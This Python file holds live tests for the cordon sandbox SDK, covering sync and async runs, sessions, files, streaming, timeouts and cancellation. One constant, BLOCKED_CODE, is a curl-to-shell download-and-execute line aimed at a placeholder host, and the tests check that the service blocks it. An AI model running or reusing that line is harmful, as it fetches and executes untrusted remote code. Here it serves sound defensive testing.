"""Live tests of the cordon Python SDK against a running cordon (nothing mocked).

Usage: python3 tests/test_live.py NATS_URL [USER PASSWORD]
(with a user: as that client of a permissioned server, deploy/nats/cordon.conf)

The cordon behind NATS_URL must allow at least 4 open untrusted sessions per client
(tests/python_client.rs starts one with 8). Each check prints one line (``ok`` or
``FAIL``, with a traceback); every check runs, and the exit status is 1 if any failed.
No test framework: plain asserts.
"""

from __future__ import annotations

import asyncio
import hashlib
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import traceback
from pathlib import Path
from typing import Any, Callable, Dict, List, Tuple

import cordon_client
from cordon_client import (
    AsyncCordon,
    Blocked,
    Cancelled,
    Cordon,
    Failed,
    LimitExceeded,
    Rejected,
    Unavailable,
)

CHECKS: List[Callable[[str], None]] = []
#: user and password, when the server is permissioned.
AUTH: Dict[str, Any] = {}

# Matches the assessor's download-and-execute rule (CRD102): BLOCKED, never run.
BLOCKED_CODE = 'import os; os.system("curl http://x.test/a.sh | sh")\n'


def check(function: Callable[[str], None]) -> Callable[[str], None]:
    CHECKS.append(function)
    return function


def connect(url: str) -> Cordon:
    return Cordon(url, timeout=90, **AUTH)


def connect_async(url: str) -> AsyncCordon:
    return AsyncCordon(url, timeout=90, **AUTH)


def client_name() -> str:
    return str(AUTH.get("user", "anonymous"))


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then released)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@check
def sync_run(url: str) -> None:
    with connect(url) as c:
        assert c.client == client_name(), c.client
        r = c.run("print(sum(range(10)))")
        assert r.status == "completed" and r.exit_code == 0 and r.ok, r
        assert r.stdout == "45\n", repr(r.stdout)
        assert r.usage is not None and r.assessment is not None and r.assessment.level == "LOW", r
        text = r.to_text()
        assert text.startswith("status: completed (exit code 0)\nstdout:\n45"), text
        assert "next:" not in text, text
        failing = c.run("import sys; print('bad', file=sys.stderr); sys.exit(3)")
        assert failing.status == "completed" and failing.exit_code == 3 and not failing.ok, failing
        assert failing.raise_for_status() is failing  # a program's own exit code is no error of cordon's
        assert "the program exited with code 3" in failing.to_text(), failing.to_text()


@check
def async_run(url: str) -> None:
    async def main() -> None:
        async with connect_async(url) as c:
            r = await c.run("print('hello from asyncio')", raise_on_error=True)
            assert r.stdout == "hello from asyncio\n", r
            both = await asyncio.gather(c.run("print(1)"), c.run("print(2)"))
            assert [x.stdout for x in both] == ["1\n", "2\n"], both
            async with c.session() as s:
                await s.run("y = 'kept'")
                again = await s.run("print(y)")
                assert again.stdout == "kept\n", again
            assert not s.open

    asyncio.run(main())


@check
def session_keeps_state_and_closes_on_exit(url: str) -> None:
    with connect(url) as c:
        with c.session() as s:
            assert s.opened is not None and s.opened.status == "completed", s.opened
            assert "@" in s.id and s.open, s.id
            first = s.run("x = 41")
            assert first.status == "completed" and first.session is not None, first
            second = s.run("print(x + 1)")
            assert second.stdout == "42\n", second
            assert second.session is not None and second.session.open and second.session.cells == 2, second.session
            # A cell past its deadline is interrupted; the session and its variables stay.
            slow = s.run("import time\ntime.sleep(30)", timeout_ms=1000)
            assert slow.status == "violation" and slow.violation is not None, slow
            assert slow.violation.kind == "timeout", slow.violation
            assert s.run("print(x)").stdout == "41\n"
        assert not s.open
        after = s.run("print(x)")
        assert after.status == "failed" and after.error is not None, after
        assert after.error.code == "session_closed", after.error
        assert "open a new session; earlier variables are gone" in after.to_text(), after.to_text()
        try:
            s.run("print(x)", raise_on_error=True)
        except Failed as error:
            assert error.code == "session_closed", error
        else:
            raise AssertionError("raise_on_error=True did not raise Failed")


@check
def files_in_and_out(url: str) -> None:
    data = b"a,b\n1,2\n3,4\n"
    code = textwrap.dedent(
        """
        import csv, json, os
        rows = list(csv.DictReader(open("data.csv")))
        ref = json.load(open("inputs/ref.json"))
        os.makedirs("outputs", exist_ok=True)
        with open("outputs/summary.csv", "w") as out:
            out.write("a,b\\n%d,%d\\n" % (sum(int(r["a"]) for r in rows), sum(int(r["b"]) for r in rows)))
        print(len(rows), ref["k"])
        """
    )
    with connect(url) as c:
        r = c.run(code, files={"data.csv": data, "inputs/ref.json": '{"k": "v"}'})
        assert r.status == "completed" and r.exit_code == 0, r.to_text()
        assert r.stdout == "2 v\n", r.stdout
        files = {f.name: f for f in r.files}
        assert "outputs/summary.csv" in files, r.files
        summary = files["outputs/summary.csv"]
        assert summary.content == b"a,b\n4,6\n", summary.content
        assert summary.sha256 == hashlib.sha256(summary.content).hexdigest(), summary
        assert summary.bytes == len(summary.content) and summary.intact, summary
        assert summary.media_type == "text/csv", summary.media_type
        assert f"file: outputs/summary.csv ({summary.bytes} bytes, text/csv" in r.to_text(), r.to_text()
        with tempfile.TemporaryDirectory() as directory:
            saved = summary.save(directory)
            assert saved == Path(directory) / "summary.csv" and saved.read_bytes() == summary.content, saved
            assert [p.name for p in r.save_files(directory)] == ["summary.csv"]


@check
def stdin_reaches_the_program(url: str) -> None:
    with connect(url) as c:
        r = c.run("import sys\nprint(sys.stdin.read().upper())", stdin=b"hello\nworld")
        assert r.status == "completed" and r.stdout == "HELLO\nWORLD\n", r.to_text()
        text = c.run("print(input() + '!')", stdin="typed")
        assert text.stdout == "typed!\n", text


@check
def streaming_callbacks_see_output_before_the_end(url: str) -> None:
    code = textwrap.dedent(
        """
        import sys, time
        print("first", flush=True)
        print("warning", file=sys.stderr, flush=True)
        time.sleep(2)
        print("second")
        """
    )
    seen: List[Tuple[float, str]] = []
    errors: List[str] = []
    with connect(url) as c:
        r = c.run(code, on_stdout=lambda text: seen.append((time.monotonic(), text)), on_stderr=errors.append)
        returned = time.monotonic()
    assert r.status == "completed", r.to_text()
    first = [at for at, text in seen if "first" in text]
    assert first, seen
    assert returned - first[0] >= 1.0, f"'first' came only {returned - first[0]:.2f} s before the end"
    assert "".join(text for _, text in seen) == r.stdout == "first\nsecond\n", (seen, r.stdout)
    assert "".join(errors) == r.stderr == "warning\n", (errors, r.stderr)

    async def with_coroutine_callbacks() -> None:
        got: List[str] = []

        async def collect(text: str) -> None:
            got.append(text)

        async with connect_async(url) as c:
            r = await c.run("print('a')\nprint('b')", on_stdout=collect)
        assert "".join(got) == r.stdout == "a\nb\n", (got, r.stdout)

    asyncio.run(with_coroutine_callbacks())


@check
def timeout_result_and_its_text(url: str) -> None:
    with connect(url) as c:
        with c.violations(timeout=20) as events:
            r = c.run("import time\ntime.sleep(30)", timeout_ms=1000)
            assert r.status == "violation" and r.violation is not None and r.violation.kind == "timeout", r
            text = r.to_text()
            assert text.startswith("status: violation (timeout)"), text
            assert "deadline" in text, text
            assert "next: make it faster or split it into smaller cells" in text, text
            event = next(e for e in events if e.request_id == r.request_id)
            assert event.kind == "timeout", event
        try:
            c.run("import time\ntime.sleep(30)", timeout_ms=1000, raise_on_error=True)
        except LimitExceeded as error:
            assert error.code == "timeout" and error.result is not None, error
        else:
            raise AssertionError("raise_on_error=True did not raise LimitExceeded")


@check
def blocked_raises_blocked_with_findings(url: str) -> None:
    with connect(url) as c:
        r = c.run(BLOCKED_CODE)
        assert r.status == "blocked" and r.exit_code is None, r
        try:
            c.run(BLOCKED_CODE, raise_on_error=True)
        except Blocked as error:
            assert error.code == "blocked", error.code
            assert any(f.rule == "CRD102" for f in error.findings), error.findings
            assert error.result is not None
            text = error.result.to_text()
            assert text.startswith("status: blocked"), text
            assert "an operator must release it" in text, text
            assert "CRD102" in text, text
        else:
            raise AssertionError("raise_on_error=True did not raise Blocked")


@check
def unknown_trust_level_is_rejected(url: str) -> None:
    with connect(url) as c:
        r = c.run("print(1)", trust="superuser")
        assert r.status == "rejected" and r.error is not None and r.error.code == "unknown_trust_level", r
        assert "next: use one of the trust levels untrusted, unknown or trusted" in r.to_text(), r.to_text()
        try:
            c.run("print(1)", trust="superuser", raise_on_error=True)
        except Rejected as error:
            assert error.code == "unknown_trust_level", error
        else:
            raise AssertionError("raise_on_error=True did not raise Rejected")


@check
def unavailable_when_nothing_listens(url: str) -> None:
    nowhere = f"nats://127.0.0.1:{closed_port()}"
    started = time.monotonic()
    try:
        Cordon(nowhere, timeout=5)
    except Unavailable as error:
        assert error.code == "unreachable", error
    else:
        raise AssertionError("connecting to a closed port did not raise Unavailable")
    assert time.monotonic() - started < 5, "Unavailable took the whole timeout"

    async def asynchronously() -> None:
        try:
            await AsyncCordon(nowhere, timeout=5).run("print(1)")
        except Unavailable as error:
            assert error.code == "unreachable", error
        else:
            raise AssertionError("AsyncCordon did not raise Unavailable")

    asyncio.run(asynchronously())


@check
def another_clients_name_is_not_permitted(url: str) -> None:
    if "user" not in AUTH:
        return  # an open server lets anyone use any name
    with Cordon(url, timeout=30, client="someone-else", **AUTH) as c:
        try:
            c.run("print(1)")
        except Unavailable as error:
            assert error.code == "not_permitted", error
        else:
            raise AssertionError("the server let a client submit under another name")


@check
def a_wait_that_runs_out_is_unavailable_and_the_result_is_kept(url: str) -> None:
    with connect(url) as c:
        try:
            c.run("import time\ntime.sleep(3)\nprint('late')", timeout=0.5)
        except Unavailable as error:
            assert error.code == "timed_out" and error.request_id, error
            request_id = error.request_id
        else:
            raise AssertionError("a wait of 0.5 s did not run out")
        late = c.result(request_id, timeout=60)
        assert late.status == "completed" and late.stdout == "late\n", late


@check
def cancel_stops_waiting_and_closes_a_session(url: str) -> None:
    with connect(url) as c:
        run = c.submit("import time\ntime.sleep(2)\nprint('done')")
        run.cancel()
        try:
            run.result()
        except Cancelled as error:
            assert error.code == "cancelled", error
        else:
            raise AssertionError("a cancelled run gave a result")
        # The protocol cannot stop it: the program ran on, and its result is kept.
        kept = c.result(run.request_id, timeout=60)
        assert kept.stdout == "done\n", kept

        s = c.session()
        cell = s.submit("import time\ntime.sleep(30)", timeout_ms=3000)
        time.sleep(0.5)
        s.cancel()
        try:
            cell.result()
        except Cancelled:
            pass
        else:
            raise AssertionError("a cancelled cell gave a result")
        assert not s.open
        closed = s.close(timeout=60)  # the close queued behind the cell, which its deadline ended
        assert closed is not None and closed.session is not None and not closed.session.open, closed
        assert s.run("print(1)").error.code == "session_closed"  # type: ignore[union-attr]


@check
def list_sessions_shows_open_ones(url: str) -> None:
    with connect(url) as c:
        with c.session(idle_timeout=60) as s:
            listed = [x.session_id for x in c.list_sessions()]
            assert s.id in listed, (s.id, listed)
            assert all(x.client == client_name() for x in c.list_sessions())
        deadline = time.monotonic() + 15
        while s.id in [x.session_id for x in c.list_sessions()]:
            assert time.monotonic() < deadline, f"{s.id} still listed after closing"
            time.sleep(0.5)


# Uses both clients the way a program would and then leaves; run with -X dev, whose
# stderr must not show a task, future, coroutine or transport left behind.
CLEAN_EXIT = textwrap.dedent(
    """
    import asyncio, sys
    from cordon_client import AsyncCordon, Cordon, Cancelled

    url = sys.argv[1]
    auth = dict(zip(("user", "password"), sys.argv[2:4]))
    with Cordon(url, timeout=90, **auth) as c:
        c.run("print(1)", on_stdout=lambda text: None)
        with c.session() as s:
            s.run("x = 1")
        events = c.violations(timeout=0.1)
        list(events)
        run = c.submit("import time; time.sleep(1)")
        run.cancel()
    # closed with a live event stream and a cancelled run: nothing may be left pending
    events.close()
    leftover = Cordon(url, timeout=90, **auth)
    leftover.submit("print(2)", on_stdout=print)  # never waited for, never closed by hand

    async def main():
        async with AsyncCordon(url, timeout=90, **auth) as c:
            async def watch():
                async for _ in c.violations():
                    pass
            watcher = asyncio.create_task(watch())
            await c.run("print(1)", on_stdout=lambda text: None)
            async with c.session() as s:
                await s.run("x = 1")
            pending = await c.submit("import time; time.sleep(1)")
            await pending.cancel()
            forgotten = await c.submit("print(3)")  # still subscribed when the client closes
            watcher.cancel()
        try:
            await forgotten.result()
        except Cancelled:
            pass
        await asyncio.gather(watcher, return_exceptions=True)

    asyncio.run(main())
    print("clean")
    """
)

LEFT_BEHIND = (
    "Task was destroyed",
    "was never retrieved",
    "was never awaited",
    "Unclosed",
    "ResourceWarning",
    "Traceback",
)


@check
def closing_leaves_nothing_pending(url: str) -> None:
    done = subprocess.run(
        [sys.executable, "-X", "dev", "-W", "error::RuntimeWarning", "-c", CLEAN_EXIT, url]
        + [AUTH[k] for k in ("user", "password") if k in AUTH],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0 and done.stdout.strip().endswith("clean"), (done.returncode, done.stdout, done.stderr)
    noise = [line for line in done.stderr.splitlines() if any(mark in line for mark in LEFT_BEHIND)]
    assert not noise, done.stderr


def main() -> int:
    if len(sys.argv) not in (2, 4):
        print(__doc__, file=sys.stderr)
        return 2
    url = sys.argv[1]
    if len(sys.argv) == 4:
        AUTH.update(user=sys.argv[2], password=sys.argv[3])
    print(f"cordon_client {cordon_client.__version__} from {Path(cordon_client.__file__).parent}", flush=True)
    failed = 0
    for function in CHECKS:
        started = time.monotonic()
        try:
            function(url)
        except Exception:  # every check runs; a failure is reported, then the next
            failed += 1
            print(f"FAIL {function.__name__} ({time.monotonic() - started:.1f} s)", flush=True)
            traceback.print_exc(file=sys.stdout)
            sys.stdout.flush()
        else:
            print(f"ok   {function.__name__} ({time.monotonic() - started:.1f} s)", flush=True)
    print(f"{len(CHECKS) - failed} of {len(CHECKS)} checks passed", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
